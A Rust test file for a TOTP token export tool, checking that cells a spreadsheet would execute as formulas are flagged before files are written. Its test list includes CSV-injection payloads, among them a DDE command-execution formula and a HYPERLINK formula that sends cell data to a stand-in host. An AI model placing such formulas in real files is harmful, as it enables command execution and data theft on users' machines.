//! Spreadsheet formulas in what is written: a cell that a spreadsheet would run stands there as it came, for the file is data
//! first, and a finding says so beforehand.

use totp_toolset::formats::cells::cells;
use totp_toolset::formats::{FindingCode, Format, open};
use totp_toolset::oath::{Token, UserDetails};
use totp_toolset::work::{FileKind, FileOrder};

use crate::token;

/// What people open in a spreadsheet. The others are JSON, URIs and commands.
const TABLES: [FileKind; 11] = [
    FileKind::EntraCsv,
    FileKind::HexList,
    FileKind::LinotpCsv,
    FileKind::MultiotpCsv,
    FileKind::NetiqCsv,
    FileKind::PingidCsv,
    FileKind::PrivacyideaCsv,
    FileKind::PythonPskcCsv,
    FileKind::Inventory,
    FileKind::YubiKeySecrets,
    FileKind::ActivationCsv,
];

/// OWASP's beginnings, plain and full-width; behind quotation marks, and behind a semicolon that begins a cell where
/// Excel speaks German.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://x.test?\"&A1,\"ok\")",
    "\"=1+1",
    "\"\"=1+1",
    "1;=1+1",
    "1; \"=1+1\"",
];

/// Tokens with this text in each place that takes it.
fn tokens_with(text: &str) -> Vec<Token> {
    let domain = format!("{}@contoso.com", text.replace(['@', ' '], ""));
    [
        Token {
            serial: text.parse().ok(),
            ..token()
        },
        Token {
            manufacturer: text.parse().ok(),
            ..token()
        },
        Token {
            model: text.parse().ok(),
            ..token()
        },
        Token {
            upn: domain.parse().ok(),
            ..token()
        },
        Token {
            user: UserDetails {
                display_name: text.parse().ok(),
                ..UserDetails::default()
            },
            ..token()
        },
        Token {
            user: UserDetails {
                department: text.parse().ok(),
                ..UserDetails::default()
            },
            ..token()
        },
    ]
    .into()
}

fn order(kind: FileKind) -> FileOrder {
    FileOrder {
        kind,
        date: "2026-11-24".to_owned(),
        most_rows: None,
        milliseconds: 1_795_516_200_000,
    }
}

fn written(kind: FileKind, tokens: &[Token]) -> String {
    let (files, _) = order(kind).write(tokens);
    let texts = files
        .iter()
        .map(|(_, bytes)| String::from_utf8_lossy(bytes));
    texts.collect()
}

/// Whether a spreadsheet finds a formula in the file, whichever delimiter it takes: the plain split as well, for with another
/// delimiter a quotation mark in the middle of a cell is nothing but a character.
fn would_run(file: &str) -> bool {
    let begins = |cell: &str| {
        cell.trim_start()
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
    };
    file.lines().any(|line| {
        let as_meant = cells(line, ',').is_ok_and(|cells| cells.iter().any(|cell| begins(cell)));
        let cut = |delimiter| {
            line.split(delimiter)
                .any(|cell| begins(cell.trim_start().trim_start_matches('"')))
        };
        as_meant || cut(';') || cut('\t')
    })
}

#[test]
fn every_cell_that_a_spreadsheet_would_run_is_said_before_it_is_written() {
    let mut runs = 0;
    for kind in TABLES {
        for (text, token) in FORMULAS.iter().flat_map(|text| {
            tokens_with(text)
                .into_iter()
                .map(move |token| (text, token))
        }) {
            let token = [token];
            if !would_run(&written(kind, &token)) {
                continue;
            }
            runs += 1;
            let said = order(kind).check(&token);
            let is_said = said
                .iter()
                .any(|finding| finding.code == FindingCode::FormulaCell);
            assert!(is_said, "{kind:?}, {text:?}: {:?}", token[0]);
        }
    }
    // The oracle finds them: else nothing was asked.
    assert!(runs > 200, "{runs} files with a formula");
}

#[test]
fn nothing_is_said_where_there_is_no_formula() {
    for kind in TABLES {
        for token in [
            tokens_with("a=b"),
            tokens_with("Contoso; Key"),
            tokens_with("1-2+3"),
        ]
        .into_iter()
        .flatten()
        {
            let token = [token];
            assert!(
                !would_run(&written(kind, &token)),
                "{kind:?}: {:?}",
                token[0]
            );
            let said = order(kind).check(&token);
            let is_said = said
                .iter()
                .any(|finding| finding.code == FindingCode::FormulaCell);
            assert!(!is_said, "{kind:?}: {:?}", token[0]);
        }
    }
}

#[test]
fn a_formula_stands_in_the_upload_as_it_came_and_comes_back_the_same() {
    for text in FORMULAS {
        let tokens: Vec<Token> = tokens_with(text)
            .into_iter()
            .take(4)
            .filter(|token| token.upn.is_some() && token.serial.is_some())
            .enumerate()
            .map(|(place, token)| Token {
                secret: totp_toolset::oath::Secret::from_bytes(&[place as u8 + 1; 20])
                    .expect("20 bytes"),
                ..token
            })
            .collect();
        let one = |token: &Token| {
            (
                token.serial.clone(),
                token.upn.clone(),
                token.manufacturer.clone(),
                token.model.clone(),
            )
        };
        for token in tokens {
            let before = one(&token);
            let file = written(FileKind::EntraCsv, &[token]);
            let read = open(file.as_bytes()).expect("our own file");
            assert_eq!(
                read.tokens.iter().map(one).collect::<Vec<_>>(),
                [before],
                "{text:?}"
            );
        }
    }
    assert_eq!(
        Format::ALL.len(),
        14,
        "a format that is new is read with formulas too"
    );
}

#[test]
fn a_tab_or_a_line_end_begins_no_cell_for_no_token_has_one() {
    for text in [
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "1\t=1+1",
        "1\r=1+1",
        "1\n=1+1",
        "1\u{2028}=1+1",
    ] {
        let kept = text.parse::<totp_toolset::oath::Model>().ok();
        let kept = kept.as_ref().map(|model| model.as_str());
        // In front it is a blank that is dropped, and the formula is seen; inside it is refused.
        assert!(matches!(kept, None | Some("=1+1")), "{text:?}: {kept:?}");
    }
}
